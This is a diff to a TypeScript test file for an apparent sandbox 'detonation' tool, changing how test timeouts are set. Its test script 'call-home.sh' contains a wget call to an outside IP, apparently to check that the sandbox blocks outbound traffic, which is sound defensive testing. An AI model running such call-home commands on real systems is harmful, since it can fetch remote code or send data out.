@@ -1,6 +1,6 @@
 import { cp, open, readdir, readFile, rm } from 'node:fs/promises';
 import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
 import { readTrustedKeys, STREAM_NAMES, type TrustedKeys, verifyBundle } from '../../orchestrator/evidence/index.ts';
 import { OPERATIONS } from '../../orchestrator/operations/index.ts';
 import { RunSummary } from '../../orchestrator/run/summary.ts';
@@ -20,6 +20,7 @@ wget -q -T 2 -O - http://198.51.100.7/x || echo "no way out"
 exit 0
 `;
 const RUN_LIMIT_MS = 300_000;
+vi.setConfig({ testTimeout: RUN_LIMIT_MS, hookTimeout: RUN_LIMIT_MS });
 
 let place: TestHome;
 let ended: Ended;
@@ -30,7 +31,7 @@ beforeAll(async () => {
   ended = await burnbag(place, ['detonate', await place.write('call-home.sh', SCRIPT), '--json']);
   run = RunSummary.parse(parseDocument(ended));
   bundle = join(place.home, 'runs', run.run_id);
-}, RUN_LIMIT_MS);
+});
 afterAll(() => place[Symbol.asyncDispose]());
 
 describe('a detonation', () => {
@@ -152,18 +153,14 @@ describe('the exit code', () => {
   test.each([
     ['1, for a script that fails', 'echo oops >&2\nexit 7\n', 60, 1, 'failed'],
     ['3, for a script that is still running at its deadline', 'sleep 300\n', 1, 3, 'timed_out'],
-  ])(
-    'is %s',
-    async (_what, script, seconds, exitCode, outcome) => {
-      const file = await place.write('script.sh', `#!/bin/sh\n${script}`);
-      const other = await burnbag(place, ['detonate', file, '--timeout', String(seconds), '--json']);
-      expect(other.exitCode).toBe(exitCode);
-      const told = RunSummary.parse(parseDocument(other));
-      expect(told).toMatchObject({ state: 'destroyed', outcome, result: { evidence: { verdict: 'complete' } } });
-      expect(await leftovers(place, await portsOf(join(place.home, 'runs', told.run_id)))).toEqual([]);
-    },
-    RUN_LIMIT_MS,
-  );
+  ])('is %s', async (_what, script, seconds, exitCode, outcome) => {
+    const file = await place.write('script.sh', `#!/bin/sh\n${script}`);
+    const other = await burnbag(place, ['detonate', file, '--timeout', String(seconds), '--json']);
+    expect(other.exitCode).toBe(exitCode);
+    const told = RunSummary.parse(parseDocument(other));
+    expect(told).toMatchObject({ state: 'destroyed', outcome, result: { evidence: { verdict: 'complete' } } });
+    expect(await leftovers(place, await portsOf(join(place.home, 'runs', told.run_id)))).toEqual([]);
+  });
 });
 
 function logs(stream: string, ...more: string[]): Promise<Ended> {
